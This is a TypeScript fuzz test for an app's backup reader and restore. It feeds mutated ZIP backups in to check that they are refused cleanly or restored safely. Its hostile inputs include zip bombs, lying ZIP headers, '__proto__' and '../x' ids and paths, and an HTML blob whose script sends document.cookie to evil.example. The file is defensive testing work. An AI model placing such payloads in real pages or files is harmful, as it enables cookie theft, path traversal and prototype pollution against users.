// Fuzz: the backup reader (zip-read.ts + format.ts + library-format.ts) and restore into
// fake-indexeddb (store/backup.ts), issue 18 (Tests). 10,000 seeded mutations of a small valid
// backup of a store that already holds the project it came from (so every id collides):
// flipped bytes, truncation, lying ZIP headers and zip bombs, hostile ids / names / paths,
// absurd numbers, type confusion, swapped blob contents. Every case must end in a typed
// Failure (backup-*) or a restore under fresh ids; a failed restore changes nothing in the
// store, an accepted one adds only its own records; memory stays bounded.
import 'fake-indexeddb/auto';
import { IDBFactory } from 'fake-indexeddb';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { BACKUP_CAPS, packBackup, sha256Hex, unpackBackup } from '../../src/core/backup/format';
import { writeBackup } from '../../src/store/backup';
import { closeDB, getDB } from '../../src/store/db';
import { addPanels, setPanelResult } from '../../src/store/panels';
import { createProject } from '../../src/store/projects';
import { addReference, setTagLabels } from '../../src/store/references';
import { openIndex } from '../../src/store/vectors';
import { addCharacter } from '../../src/store/characters';
import { saveHints } from '../../src/store/hints';
import { createPalette } from '../../src/store/palettes';
import { saveStory } from '../../src/store/story';
import { crc32 } from '../../src/core/strip/crc32';
import { LIMITS } from '../../src/core/strip/limits';
import { sniffImage } from '../../src/core/image/sniff';
import { jpeg, png, snapshot, collectBytes } from './backup-helpers';
import {
  ABSURD_NUMBERS,
  flipBytes,
  hostileString,
  MiB,
  patch,
  retainedBytes,
  rng,
  truncate,
  wrongValue,
  writeZip,
  type RawEntry,
  type Rng,
} from './fuzz-helpers';

const CASES = Number(process.env.FUZZ_CASES ?? 10_000); // (a smaller count only for local debugging)
const BATCH = 500;
const TYPED = new Set(['backup-foreign', 'backup-damaged', 'backup-version', 'backup-bad-image', 'backup-too-large']);

type Json = Record<string, any>; // the parsed manifest, edited freely by the mutators

/** A small but complete store: one project (2 panels, result, hint, palette, character, story) and one library reference with a vector. */
async function seedStore(): Promise<string> {
  await closeDB();
  globalThis.indexedDB = new IDBFactory();
  const p = await createProject('Victim');
  const panels = await addPanels(p.id, [
    { bytes: png(1, 5, 3), type: 'image/png', width: 5, height: 3, sourceName: 'a.png' },
    {
      bytes: jpeg(4, 4),
      type: 'image/jpeg',
      width: 4,
      height: 4,
      sourceName: 'b.jpg',
      gapAfter: { height: 3, color: '#ffffff' },
    },
  ]);
  await setPanelResult(panels[0].id, png(2, 5, 3), 'image/png');
  const pal = await createPalette(p.id, 'Hero', [{ label: 'hair', rgb: [10, 20, 30] }]);
  await saveHints(panels[1].id, [
    { kind: 'point', x: 1, y: 2, radius: 3, rgb: [10, 20, 30], ref: `${pal.id}/hair` } as never,
  ]);
  await addCharacter(p.id, {
    name: 'Mina',
    image: { bytes: png(3), type: 'image/png' },
    paletteId: pal.id,
    paletteName: 'Hero',
  });
  await saveStory(p.id, {
    story: 'A day at the beach',
    baseSeed: 7,
    steps: 4,
    guidance: 2,
    strength: 0.6,
    panels: [{ text: 'sky', seed: 1, take: 0, characters: ['Mina'], panelId: panels[0].id }],
    updatedAt: 1,
  } as never);
  const index = await openIndex('clip/toon-clip', 4);
  await addReference(
    { bytes: png(4), type: 'image/png', name: 'ref.png' },
    new Float32Array([1, 0, 0, 0]),
    'clip/toon-clip',
    index,
    [{ label: 'sky', score: 0.5 }],
  );
  await setTagLabels(['sky', 'sea']);
  return p.id;
}

const HTML = strToU8('<!doctype html><script>fetch("https://evil.example/?"+document.cookie)</script>');
/** Whole PNG structure (chunks, CRCs) whose IHDR claims w×h over a tiny IDAT: the header is what is checked. */
function pngClaiming(w: number, h: number): Uint8Array {
  const real = new Uint8Array(png(9, 1, 1));
  const dv = new DataView(real.buffer);
  dv.setUint32(16, w);
  dv.setUint32(20, h);
  dv.setUint32(29, crc32(real, 12, 29));
  return real;
}
const WIDE = pngClaiming(20_000, 1);
const HUGE = pngClaiming(12_000, 12_000);
const EMPTY_PNG = pngClaiming(0, 0);
const GIF = new Uint8Array([0x47, 0x49, 0x46, 0x38, 0x39, 0x61, 1, 0, 1, 0, 0, 0, 0, 0x3b]);
/** 8 MiB of zeros: deflates to ~8 KiB — a bomb ratio of ~1000:1 (made once). */
const ZEROS = new Uint8Array(8 * MiB);

function mutateManifestNode(r: Rng, m: Json): void {
  // Walk to a random node and replace, delete or duplicate it.
  let node: any = m;
  for (let depth = 0; depth < 6; depth++) {
    const keys: (string | number)[] = Array.isArray(node) ? node.map((_: unknown, i: number) => i) : Object.keys(node);
    if (!keys.length) break;
    const k = r.pick<string | number>(keys);
    const child = node[k];
    if (child && typeof child === 'object' && r.chance(0.7)) {
      node = child;
      continue;
    }
    const op = r.int(0, 3);
    if (op === 0) delete node[k];
    else if (op === 1 && Array.isArray(node)) node.push(structuredClone(child));
    else
      node[k] = r.chance(0.5) ? wrongValue(r) : typeof child === 'number' ? r.pick(ABSURD_NUMBERS) : hostileString(r);
    return;
  }
  m[hostileString(r) || 'x'] = wrongValue(r);
}

/** Renames one id everywhere it is used, so the backup stays consistent (and reaches the store). */
function renameIdEverywhere(
  m: Json,
  files: Record<string, Uint8Array>,
  from: string,
  to: string,
  movePath: string | null,
): void {
  const swap = (v: unknown): unknown => (v === from ? to : v);
  const walk = (n: any): void => {
    if (!n || typeof n !== 'object') return;
    for (const k of Object.keys(n)) {
      if (typeof n[k] === 'string') n[k] = swap(n[k]);
      else walk(n[k]);
    }
  };
  walk(m);
  if (movePath !== null) {
    const e = m.blobs.find((b: Json) => b.id === to);
    if (e) {
      const bytes = files[e.path];
      delete files[e.path];
      files[movePath] = bytes;
      e.path = movePath;
    }
  }
}

/** ZIP-level bombs and header lies on top of the template's own entries. */
function bomb(r: Rng, files: Record<string, Uint8Array>, m: Json): Uint8Array {
  const manifest = strToU8(JSON.stringify(m));
  const entries: RawEntry[] = Object.entries(files)
    .filter(([n]) => n !== 'manifest.json')
    .map(([name, data]) => ({ name, data }));
  entries.unshift({ name: 'manifest.json', data: manifest, method: r.chance(0.5) ? 8 : 0 });
  const blobPath = m.blobs[0].path as string;
  const kind = r.int(0, 6);
  if (kind === 0) {
    // An entry nobody names, inflating 1000:1: must not be inflated at all (the restore may succeed).
    entries.push({ name: `junk/${r.int(0, 99)}.bin`, data: ZEROS, method: 8 });
  } else if (kind === 1) {
    // A named blob whose headers say it is over the per-image cap.
    const e = entries.find((x) => x.name === blobPath)!;
    e.declaredSize = BACKUP_CAPS.maxBlobBytes + r.int(1, 1000);
  } else if (kind === 2) {
    // Declared sizes summing past the total cap (each under its own cap).
    for (let i = 0; i < 22; i++) entries.push({ name: `pad/${i}`, data: new Uint8Array(1), declaredSize: 100 * MiB });
  } else if (kind === 3) {
    // A lying header: the manifest declares a few bytes but inflates to 8 MiB.
    const e = entries[0];
    e.data = ZEROS;
    e.method = 8;
    e.declaredSize = manifest.length;
  } else if (kind === 4) {
    // A named blob declared small that inflates to 8 MiB (bounded inflate must stop).
    const e = entries.find((x) => x.name === blobPath)!;
    e.declaredSize = e.data.length;
    e.declaredCrc = r.int(0, 0xffffffff);
    e.data = ZEROS;
    e.method = 8;
  } else if (kind === 5) {
    // Absurd declared sizes: ZIP64 markers and near-4-GiB values.
    const e = r.pick(entries);
    e.declaredSize = r.pick([0xffffffff, 0xfffffffe, 2 ** 31, BACKUP_CAPS.maxManifestBytes + 1]);
  } else {
    // The same name twice (which one would win?).
    entries.push({ name: blobPath, data: HTML });
  }
  return writeZip(entries);
}

/** Fields of the central directory / EOCD patched with absurd values. */
function lyingDirectory(r: Rng, zip: Uint8Array): Uint8Array {
  const dv = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
  const eocd = zip.length - 22;
  const dir = dv.getUint32(eocd + 16, true);
  const count = dv.getUint16(eocd + 10, true);
  const v = r.pick([0, 1, 0xffff, 0xffffffff, 0x7fffffff, zip.length, zip.length - 1, r.int(0, 0xffffffff)]);
  if (r.chance(0.25)) return patch(zip, eocd + r.pick([8, 10, 12, 16, 20]), v, r.chance(0.5) ? 2 : 4);
  // Walk to a random central entry.
  let pos = dir;
  const n = r.int(0, count - 1);
  for (let i = 0; i < n; i++)
    pos += 46 + dv.getUint16(pos + 28, true) + dv.getUint16(pos + 30, true) + dv.getUint16(pos + 32, true);
  const field = r.pick([
    [10, 2],
    [16, 4],
    [20, 4],
    [24, 4],
    [28, 2],
    [30, 2],
    [32, 2],
    [42, 4],
  ] as const);
  return patch(zip, pos + field[0], v, field[1]);
}

async function swapBlob(r: Rng, m: Json, files: Record<string, Uint8Array>): Promise<void> {
  const e = r.pick(m.blobs as Json[]);
  const real = files[e.path];
  const choices = [
    HTML,
    GIF,
    new Uint8Array(0),
    truncate(r, real),
    flipBytes(r, real),
    WIDE, // header over the width limit
    HUGE, // over the pixel limit
    EMPTY_PNG, // no pixels
    new Uint8Array(jpeg(r.int(0, 65535), r.int(0, 65535))),
    Uint8Array.from({ length: r.int(1, 64) }, () => r.int(0, 255)),
  ];
  const bytes = r.pick(choices);
  files[e.path] = bytes;
  e.size = bytes.length;
  e.sha256 = await sha256Hex(bytes);
  if (r.chance(0.5)) e.type = r.pick(['text/html', 'image/svg+xml', 'application/javascript', 'image/png']);
}

async function vectorPoison(r: Rng, m: Json, files: Record<string, Uint8Array>): Promise<void> {
  const set = m.library.vectors[0];
  const f = new Float32Array(files[set.path].slice().buffer);
  f[r.int(0, f.length - 1)] = r.pick([NaN, Infinity, -Infinity, 3.4e38, -0]);
  const bytes = new Uint8Array(f.buffer);
  files[set.path] = bytes;
  set.sha256 = await sha256Hex(bytes);
}

/** One fuzz case from the seed: the bytes of a (probably broken) backup. */
async function makeCase(seed: number, template: Uint8Array): Promise<Uint8Array> {
  const r = rng(seed);
  const roll = r.next();
  if (roll < 0.12) return flipBytes(r, template);
  if (roll < 0.2) return truncate(r, template);
  if (roll < 0.28) return lyingDirectory(r, template);
  if (roll < 0.3)
    return Uint8Array.from({ length: r.int(0, 300) }, (_, i) => (i < 4 ? [0x50, 0x4b, 3, 4][i] : r.int(0, 255)));
  const files = unzipSync(template);
  const m = JSON.parse(new TextDecoder().decode(files['manifest.json'])) as Json;
  if (roll < 0.4) return bomb(r, files, m);
  if (roll < 0.5) {
    // A consistent rename to a hostile id (and often a hostile path): must restore under fresh ids.
    const kinds = [
      () => m.project.id,
      () => r.pick(m.panels as Json[]).id,
      () => r.pick(m.blobs as Json[]).id,
      () => r.pick(m.palettes as Json[]).id,
      () => r.pick(m.characters as Json[]).id,
      () => r.pick(m.library.references as Json[]).id,
    ];
    const from = r.pick(kinds)() as string;
    const to = r.chance(0.7)
      ? r.pick(['__proto__', 'constructor', '../x', 'toString', 'x'.repeat(5000), '한글🎨', ''])
      : hostileString(r);
    const path = r.chance(0.6)
      ? r.pick(['constructor', '__proto__', '../x', 'blobs/../x', `blobs/${to}`, 'hasOwnProperty', to])
      : null;
    // (A ZIP name is at most 65,535 bytes: a longer path could not even be written.)
    const writable = path !== null && path !== 'manifest.json' && new TextEncoder().encode(path).length < 65_535;
    renameIdEverywhere(m, files, from, to, writable ? path : null);
  } else if (roll < 0.55) {
    // Hostile display names and labels: stored as data, never as keys.
    const target = r.int(0, 4);
    const s = hostileString(r);
    if (target === 0) m.project.name = s;
    else if (target === 1) r.pick(m.panels as Json[]).sourceName = s;
    else if (target === 2) r.pick(m.library.references as Json[]).name = s;
    else if (target === 3) m.library.tagLabels.push(s);
    else r.pick(m.characters as Json[]).name = s;
  } else if (roll < 0.75) {
    const edits = r.int(1, 3);
    for (let i = 0; i < edits; i++) mutateManifestNode(r, m);
  } else if (roll < 0.85) {
    // Absurd numbers in the fields that size things.
    const spots: (() => void)[] = [
      () => (m.version = r.pick([...ABSURD_NUMBERS, 1, 2, 3, 4])),
      () => (r.pick(m.panels as Json[]).width = r.pick(ABSURD_NUMBERS)),
      () => (r.pick(m.panels as Json[]).height = r.pick(ABSURD_NUMBERS)),
      () => (r.pick(m.blobs as Json[]).size = r.pick(ABSURD_NUMBERS)),
      () => (m.library.vectors[0].dim = r.pick(ABSURD_NUMBERS)),
      () => (m.library.vectors[0].rows = r.pick(ABSURD_NUMBERS)),
      () => (m.library.vectors[0].size = r.pick(ABSURD_NUMBERS)),
      () => (m.library.references[0].vector = { set: r.pick(ABSURD_NUMBERS), row: r.pick(ABSURD_NUMBERS) }),
      () => (m.createdAt = r.pick(ABSURD_NUMBERS)),
      () => (r.pick(m.panels as Json[]).gapAfter = { height: r.pick(ABSURD_NUMBERS), color: '#000000' }),
    ];
    for (let i = r.int(1, 2); i > 0; i--) r.pick(spots)();
  } else if (roll < 0.95) {
    await swapBlob(r, m, files);
  } else if (roll < 0.97) {
    await vectorPoison(r, m, files);
  } else {
    // __proto__ as a JSON key (JSON.parse makes it an own property).
    const text = JSON.stringify(m).replace('"project":{', '"project":{"__proto__":{"id":"polluted","panelIds":[]},');
    files['manifest.json'] = strToU8(text);
    return zipSync(files, { level: 0 });
  }
  files['manifest.json'] = strToU8(JSON.stringify(m));
  return zipSync(files, { level: r.chance(0.2) ? 6 : 0 });
}

type Snap = Record<string, unknown[]>;
const keyOf = (rec: any): string => String(rec.id ?? rec.key ?? rec.projectId);

/**
 * After a batch: every record that was there before is still there, unchanged (only the
 * current-project setting may move), and every new record belongs to an accepted restore.
 */
function checkBatch(before: Snap, after: Snap, accepted: Set<string>): string[] {
  const problems: string[] = [];
  const index = (s: Snap, store: string) => new Map((s[store] ?? []).map((r) => [keyOf(r), r]));
  for (const store of Object.keys(before)) {
    const now = index(after, store);
    for (const rec of before[store]) {
      const k = keyOf(rec);
      if (store === 'settings' && k === 'currentProjectId') continue;
      if (JSON.stringify(now.get(k)) !== JSON.stringify(rec))
        problems.push(`${store}/${k.slice(0, 40)} changed or gone`);
    }
  }
  const isNew = (store: string) => {
    const old = index(before, store);
    return (after[store] ?? []).filter((r) => !old.has(keyOf(r))) as any[];
  };
  const newPanels = isNew('panels');
  const newRefs = isNew('references');
  const newSettings = isNew('settings');
  const newCharacters = isNew('characters');
  const panelIds = new Set(newPanels.map((p) => p.id));
  const blobIds = new Set<string>([
    ...newPanels.flatMap((p) => [p.originalBlobId, p.resultBlobId]),
    ...newRefs.map((r) => r.blobId),
    ...newCharacters.map((c) => c.blobId),
    ...isNew('storyboards').flatMap((b) =>
      (b.panels as any[]).flatMap((p) => (p.layout?.background?.generated ? [p.layout.background.blobId] : [])),
    ),
  ]);
  const chunkIds = new Set(newRefs.map((r) => r.chunkId));
  for (const p of isNew('projects'))
    if (!accepted.has(p.id)) problems.push(`project ${p.id} written by a refused restore`);
  for (const p of newPanels) if (!accepted.has(p.projectId)) problems.push(`panel ${p.id} outside an accepted restore`);
  for (const p of isNew('palettes'))
    if (!accepted.has(p.projectId)) problems.push(`palette ${p.id} outside an accepted restore`);
  for (const h of isNew('hints')) if (!panelIds.has(h.id)) problems.push(`hint ${h.id} for no restored panel`);
  for (const b of isNew('blobs')) if (!blobIds.has(b.id)) problems.push(`blob ${b.id} used by nothing restored`);
  for (const c of isNew('vectorChunks'))
    if (!chunkIds.has(c.id)) problems.push(`vector chunk ${c.id} used by nothing restored`);
  for (const s of newSettings) problems.push(`setting ${s.key} written by a restore`);
  for (const store of ['stories', 'storyboards', 'characters'])
    for (const r of isNew(store))
      if (!accepted.has(r.projectId)) problems.push(`${store}/${keyOf(r)} outside an accepted restore`);
  for (const b of isNew('blobs'))
    if (!/^image\/(png|jpeg|webp)$/.test(b.type)) problems.push(`blob ${b.id} stored as ${b.type}`);
  return problems;
}

describe('fuzz: backup reader and restore', () => {
  it(`${CASES} mutated backups: typed refusal or a restore under fresh ids; the store otherwise untouched; memory bounded`, async () => {
    const outcomes = new Map<string, number>();
    const crashes: string[] = [];
    const storeProblems: string[] = [];
    const timeByKind = new Map<number, number>(); // ms by the first roll (percent), for tuning
    let overhead = 0;
    let baseline = 0;
    let maxGrowth = 0;
    for (let b = 0; b < CASES / BATCH; b++) {
      const tb = performance.now();
      const victimId = await seedStore();
      const template = await packBackup(await collectBytes(victimId), 1_700_000_000_000);
      const before = await snapshot();
      const oldIds = new Set(Object.values(before).flatMap((recs) => recs.map(keyOf)));
      const accepted = new Set<string>();
      overhead += performance.now() - tb;
      for (let i = 0; i < BATCH; i++) {
        const seed = b * BATCH + i;
        const t0 = performance.now();
        try {
          const zip = await makeCase(seed, template);
          const r = await unpackBackup(zip);
          if (!r.ok) {
            if (!TYPED.has(r.code) || typeof r.detail !== 'string')
              crashes.push(`case ${seed}: untyped failure ${JSON.stringify(r).slice(0, 200)}`);
            outcomes.set(r.code, (outcomes.get(r.code) ?? 0) + 1);
            continue;
          }
          const { project } = await writeBackup(r);
          accepted.add(project.id);
          outcomes.set('restored', (outcomes.get('restored') ?? 0) + 1);
          if (oldIds.has(project.id) || project.panelIds.some((id) => oldIds.has(id)))
            crashes.push(`case ${seed}: restored onto an existing id`);
        } catch (e) {
          crashes.push(
            `case ${seed}: threw ${e instanceof Error ? `${e.name}: ${e.message}` : String(e)}`.slice(0, 300),
          );
        }
        const kind = Math.floor(rng(seed).next() * 50) * 2;
        timeByKind.set(kind, (timeByKind.get(kind) ?? 0) + performance.now() - t0);
      }
      const ta = performance.now();
      const after = await snapshot();
      for (const p of checkBatch(before, after, accepted)) storeProblems.push(`batch ${b}: ${p}`);
      // Memory: measured after the first batch (module code, fake-indexeddb and V8's lazy
      // structures are warm by then) and after each later one.
      await closeDB();
      if (b === 0) baseline = retainedBytes();
      else maxGrowth = Math.max(maxGrowth, retainedBytes() - baseline);
      overhead += performance.now() - ta;
    }
    if (process.env.FUZZ_PROFILE)
      console.log(
        [...timeByKind]
          .sort((a, b) => a[0] - b[0])
          .map(([k, v]) => `${k}%:${v.toFixed(0)}`)
          .join(' '),
        `batch overhead ${overhead.toFixed(0)} ms`,
      );
    console.log(
      `fuzz-backup outcomes: ${JSON.stringify(Object.fromEntries(outcomes))}; retained growth ${(maxGrowth / MiB).toFixed(1)} MiB`,
    );
    expect(crashes.slice(0, 20)).toEqual([]);
    expect(storeProblems.slice(0, 20)).toEqual([]);
    expect([...outcomes.values()].reduce((a, b) => a + b, 0)).toBe(CASES);
    // Every outcome class is reached (the generator is not stuck in one corner).
    for (const c of [...TYPED, 'restored']) expect(outcomes.get(c) ?? 0, c).toBeGreaterThan(0);
    // Bound: each batch starts from a fresh store and keeps nothing; a leak of 1 KiB per case
    // would add ~10 MiB, a kept 8 MiB bomb buffer 8 MiB each. 16 MiB leaves room for V8's own
    // caches (code, ICs, the TextDecoder) that settle after the first batch.
    expect(maxGrowth).toBeLessThan(16 * MiB);
  }, 180_000);
});

// Found by this fuzz (issue 18, for the backup reader's owner): the manifest's panel sizes,
// gutters and display fields are stored as given. A restored panel that says -1, 1e308 or
// 9999 px wide for a 5×3 image, or a gutter 1e21 px tall, breaks every later layout (stitch,
// slice export, cut editor) — the stitch pre-check trusts stored sizes. Either refusing the
// backup or storing the sizes the image's header states passes.
describe('restore stores only panel records that match their images', () => {
  const edits: [string, (m: Json) => void][] = [
    ['width -1', (m) => (m.panels[0].width = -1)],
    ['width 1e308', (m) => (m.panels[0].width = 1e308)],
    ['height 0.5', (m) => (m.panels[0].height = 0.5)],
    ['width 9999 for a 5×3 image', (m) => (m.panels[0].width = 9999)],
    ['gutter 1e21 px', (m) => (m.panels[0].gapAfter = { height: 1e21, color: '#000000' })],
    ['sourceName a number', (m) => (m.panels[0].sourceName = 5)],
  ];
  for (const [what, edit] of edits) {
    it(`a panel with ${what} is refused (backup-damaged) or stored as its image says`, async () => {
      const victimId = await seedStore();
      const files = unzipSync(await packBackup(await collectBytes(victimId)));
      const m = JSON.parse(new TextDecoder().decode(files['manifest.json'])) as Json;
      edit(m);
      files['manifest.json'] = strToU8(JSON.stringify(m));
      const before = await snapshot();
      const r = await unpackBackup(zipSync(files, { level: 0 }));
      if (!r.ok) {
        // Refused: fine, and nothing changed.
        expect(r.code).toBe('backup-damaged');
        expect(await snapshot()).toEqual(before);
        return;
      }
      // Or restored with the record put right: sizes from the image's own header, sane gutters.
      const { project } = await writeBackup(r);
      for (const p of (await collectBytes(project.id)).panels) {
        const blob = await (await getDB()).get('blobs', p.originalBlobId);
        const head = sniffImage(new Uint8Array(await blob!.blob.arrayBuffer()));
        expect(head.ok && [head.width, head.height], what).toEqual([p.width, p.height]);
        for (const g of [p.gapBefore, p.gapAfter]) if (g) expect(g.height, what).toBeLessThanOrEqual(LIMITS.maxHeight);
        expect(typeof p.sourceName, what).toBe('string');
      }
    });
  }
});
